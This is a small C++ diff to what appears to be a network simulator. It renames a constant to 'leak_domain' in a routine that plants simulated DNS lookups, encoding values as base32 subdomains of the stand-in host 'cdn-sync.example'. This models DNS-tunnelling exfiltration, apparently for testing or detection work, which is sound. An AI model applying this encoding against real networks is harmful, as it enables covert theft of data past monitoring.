@@ -11,7 +11,7 @@ namespace qw::simulate {
 namespace {
 
 constexpr Ip4 collector = ip4(198, 51, 100, 140);
-constexpr std::string_view domain = "cdn-sync.example";
+constexpr std::string_view leak_domain = "cdn-sync.example";
 
 /// Base 32 of RFC 4648 without padding, in lower case, as names are written.
 std::string base32(std::string_view text) {
@@ -43,7 +43,7 @@ Status plant_dns(World& world, ScenarioOrder const& order) {
     Marking const marking{shard, mark};
     auto const label = order.twin ? fmt::format("{:018x}", dice->draw()) : base32(number);
     Ip4 const address = collector;
-    resolver->look_up(shard.now(), fmt::format("{}.{}", label, domain), {&address, 1});
+    resolver->look_up(shard.now(), fmt::format("{}.{}", label, leak_domain), {&address, 1});
   });
   return Nothing{};
 }
